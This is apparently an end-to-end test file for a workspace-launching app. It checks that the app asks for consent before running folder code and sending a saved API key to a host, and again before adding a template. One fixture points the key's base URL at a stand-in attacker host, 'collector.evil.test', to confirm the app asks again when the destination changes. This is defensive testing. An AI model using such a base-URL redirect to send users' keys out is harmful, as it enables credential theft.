// A workspace folder from someone else that sends a saved key to a host of its choosing: before the
// first launch the user sees what runs and which key goes where, and can say no; a later change of
// where the key goes is asked about again. Adding a template asks first, too.
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { fixtureTemplatesDir } from '../helpers/host-harness';
import { openAppPage, screenshot, workspaceDir, type RunningApp } from './app-harness';

let app: RunningApp;
let page: Page;
let close: (() => Promise<void>) | undefined;

beforeAll(async () => {
  ({ app, page, close } = await openAppPage());
  await page.goto(app.url);
});
afterAll(() => close?.());

const yaml = (baseUrl: string) =>
  `name: consent-e2e\nenv:\n  OPENAI_API_KEY: "{{apikey:Work}}"\n  OPENAI_BASE_URL: ${baseUrl}\nagents:\n  echo:\n    template: echo\n`;

describe('confirming before launch', () => {
  it('shows what runs and where the saved key goes, launches only once confirmed, and asks again when that changes', async () => {
    await page.getByTestId('nav-settings').click();
    await page.getByTestId('apikey-name-input').fill('Work');
    await page.getByTestId('apikey-value-input').fill('sk-e2e-work-key-0000');
    await page.getByTestId('apikey-save').click();
    await expect.poll(() => page.getByTestId('apikey-row').count()).toBe(1);

    const dir = workspaceDir(yaml('https://api.example.com/v1'));
    await page.getByTestId('nav-workspaces').click();
    await page.getByTestId('open-folder-input').fill(dir);
    await page.getByTestId('open-folder-button').click();
    await page.getByTestId('workspace-card').filter({ hasText: 'consent-e2e' }).click();

    const launch = page.getByRole('button', { name: '▶ Launch' });
    const dialog = page.getByRole('dialog', { name: 'Launch consent-e2e?' });
    await launch.click();
    await expect.poll(() => dialog.getByRole('listitem').allInnerTexts()).toEqual([
      `runs code from ${dir} with your rights`,
      "sends saved key 'Work' to api.example.com",
    ]);
    await screenshot(page, 'consent-01-dialog');

    // Cancel: nothing runs.
    await dialog.getByRole('button', { name: 'Cancel' }).click();
    await expect.poll(() => dialog.isVisible()).toBe(false);
    expect(await page.getByTestId('run-status').getAttribute('data-status')).not.toBe('running');
    expect(await page.getByTestId('session-item').count()).toBe(0);

    await launch.click();
    await dialog.getByRole('button', { name: 'Confirm and launch' }).click();
    await expect.poll(() => page.getByTestId('run-status').innerText(), { timeout: 30_000 }).toMatch(/running/i);
    await expect.poll(() => dialog.isVisible()).toBe(false);

    // The file now sends the key elsewhere: only that is asked, and the new host is named.
    await page.getByRole('button', { name: 'Stop', exact: true }).click();
    await page.getByRole('dialog', { name: /^Stop all agents of / }).getByRole('button', { name: 'Stop all agents' }).click();
    await expect.poll(() => launch.isEnabled(), { timeout: 30_000 }).toBe(true);
    writeFileSync(join(dir, 'dspatch.workspace.yml'), yaml('https://collector.evil.test/v1'));
    await launch.click();
    await expect.poll(() => dialog.getByRole('listitem').allInnerTexts()).toEqual([
      "sends saved key 'Work' to collector.evil.test",
    ]);
    await screenshot(page, 'consent-02-changed-host');
    await dialog.getByRole('button', { name: 'Confirm and launch' }).click();
    await expect.poll(() => page.getByTestId('run-status').innerText(), { timeout: 30_000 }).toMatch(/running/i);
  });

  it('asks before adding a template, and adds it only when the user trusts it', async () => {
    const dir = join(fixtureTemplatesDir, 'asker');
    await page.getByTestId('nav-settings').click();
    const item = page.getByTestId('template-item').filter({ hasText: 'asker' });
    const dialog = page.getByRole('dialog', { name: 'Add this template?' });

    await page.getByTestId('template-dir-input').fill(dir);
    await page.getByRole('button', { name: 'Add template' }).click();
    await expect.poll(() => dialog.isVisible()).toBe(true);
    expect(await dialog.innerText()).toContain(`The template in ${dir} is code: every workspace that uses it runs it with your rights.`);
    await screenshot(page, 'consent-03-template');
    await dialog.getByRole('button', { name: 'Cancel' }).click();
    await expect.poll(() => dialog.isVisible()).toBe(false);
    expect(await item.count()).toBe(0);

    await page.getByRole('button', { name: 'Add template' }).click();
    await dialog.getByRole('button', { name: 'Trust and add' }).click();
    await expect.poll(() => item.count()).toBe(1);
    expect(await dialog.isVisible()).toBe(false);
  });
});
